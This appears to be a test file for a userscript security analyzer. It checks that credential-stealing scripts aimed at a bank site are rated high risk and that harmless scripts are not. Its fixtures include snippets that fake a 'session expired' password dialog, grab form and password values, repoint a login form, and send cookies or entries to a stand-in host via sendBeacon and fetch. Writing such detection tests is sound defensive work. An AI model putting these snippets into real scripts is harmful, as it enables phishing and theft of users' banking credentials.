import { describe, expect, test } from "vitest";
import { analyzeScript } from "../analyze-script.ts";
import { userscript } from "../testing/find-in.ts";

const on = (body: string): string => userscript(["match https://bank.example/*"], body);
const rated = (code: string) => analyzeScript({ code });
const SEND = (what: string): string => `navigator.sendBeacon("https://c.test/", ${what});`;

/** A dialog that asks for a password again; `f` is its form. */
const ASK_AGAIN = `const box = document.createElement("div");
box.innerHTML = '<form><b>Your session has expired</b><input name="u"><input name="p" type="password"><input name="title" type="password"></form>';
document.body.append(box);
const f = box.querySelector("form");
`;

describe("controls of a form of the script's own, by their names", () => {
	test.each([
		["by the form", `f.onsubmit = () => { ${SEND("f.p.value")} };`],
		["by this", `f.onsubmit = function () { ${SEND("this.p.value")} };`],
		["by the event", `f.addEventListener("submit", (event) => { ${SEND("event.target.p.value")} });`],
		[
			"by an event of an element around it",
			`box.addEventListener("submit", ({ target }) => { ${SEND("target.p.value")} });`,
		],
		["by a computed name", `f.onsubmit = () => { ${SEND('f["p"].value')} };`],
		["in a with statement", `f.onsubmit = function () { with (this) { ${SEND("p.value")} } };`],
		["by another control of it", `box.querySelector("input").onchange = function () { ${SEND("this.form.p.value")} };`],
		["in the place of a member of forms", `f.onsubmit = () => { ${SEND("f.title.value")} };`],
	])("a password %s", (_title, code) => {
		expect(rated(on(ASK_AGAIN + code))).toMatchObject({ risk_level: "red" });
	});

	test("a control that the script made", () => {
		const made = `const f = document.createElement("form"), i = document.createElement("input");
i.type = "password"; i.name = "k"; f.append(i); document.body.append(f);
f.onsubmit = () => { ${SEND("f.k.value")} };`;
		expect(rated(on(made))).toMatchObject({ risk_level: "red" });
	});
});

describe("controls of the page's forms, by their names", () => {
	test.each([
		[
			"of the form of a submit event",
			`document.addEventListener("submit", (event) => { ${SEND("event.target.k.value")} }, true);`,
		],
		["of its own parts", `document.addEventListener("submit", ({ target: { k } }) => { ${SEND("k.value")} }, true);`],
		["of this", `document.querySelector("form").onsubmit = function () { ${SEND("this.k.value")} };`],
		["of a form by its number", `setInterval(() => { ${SEND("document.forms[0].k.value")} }, 900);`],
		["of a form by its name", `setInterval(() => { ${SEND("document.forms.login.k.value")} }, 900);`],
		["of a form as a property of the document", `setInterval(() => { ${SEND("document.login.k.value")} }, 900);`],
		[
			"of an item of a list",
			`setInterval(() => { ${SEND('document.getElementsByTagName("form").item(0).k.value')} }, 900);`,
		],
		[
			"of an element that may be a form",
			`setInterval(() => { ${SEND('document.getElementById("signin").k.value')} }, 900);`,
		],
		[
			"of the form around an element",
			`document.onclick = (event) => { ${SEND('event.target.closest("form").k.value')} };`,
		],
		[
			"of the elements that jQuery waits for",
			`$(document).on("submit", "form", function () { ${SEND("this.k.value")} });`,
		],
	])("what is typed is a form entry: %s", (_title, code) => {
		const { risk_level, vulnerabilities } = rated(on(code));
		expect(risk_level).toBe("red");
		expect(vulnerabilities.map(({ type }) => type)).toContain("form-grabbing");
	});

	test("a name of a password is one", () => {
		const { vulnerabilities } = rated(on(`setInterval(() => { ${SEND("document.login.passwd.value")} }, 900);`));
		expect(vulnerabilities.map(({ type }) => type)).toContain("password-theft");
	});

	test("a form as a property of the document has the members of forms", () => {
		expect(rated(on('document.login.action = "https://c.test/";'))).toMatchObject({ risk_level: "red" });
	});
});

describe("harmless scripts stay Low", () => {
	test.each([
		[
			"a filter of the script's own",
			`const f = document.createElement("form"); f.innerHTML = "<input name=q>"; document.body.append(f);
f.onsubmit = () => { for (const row of document.querySelectorAll("li")) row.hidden = !row.textContent.includes(f.q.value); };`,
		],
		[
			"a search elsewhere with a field of the script's own",
			`const f = document.createElement("form"); f.innerHTML = "<input name=q><button>Search the wiki</button>"; document.body.append(f);
f.onsubmit = function () { window.open("https://wiki.test/?q=" + encodeURIComponent(this.q.value)); };`,
		],
		[
			"a counter",
			`document.forms.comment.text.oninput = function () { document.title = this.form.text.value.length; };`,
		],
		[
			"a search on the site itself",
			`document.querySelector("#s").onsubmit = async function () { document.title = (await fetch("/find?q=" + this.q.value)).status; };`,
		],
		[
			"members of other elements",
			`const v = document.querySelector("video"); ${SEND("v.currentTime")} const a = document.querySelector(".x a"); ${SEND("a.marks.value")}`,
		],
		[
			"a database",
			`indexedDB.open("x").onsuccess = (event) => { event.target.result.transaction("s").objectStore("s").openCursor().onsuccess = (e) => { document.title = e.target.result.value; }; };`,
		],
	])("%s", (_title, code) => {
		const { vulnerabilities } = rated(on(code));
		expect(vulnerabilities.map(({ type }) => type)).not.toContain("form-grabbing");
		expect(vulnerabilities.filter(({ severity }) => severity === "high" || severity === "critical")).toEqual([]);
	});

	test("a with statement still finds the functions around it", () => {
		const code = `with (document.querySelector("form")) { fetch("https://c.test/?" + document.cookie); }`;
		expect(rated(on(code))).toMatchObject({ risk_level: "red" });
	});
});
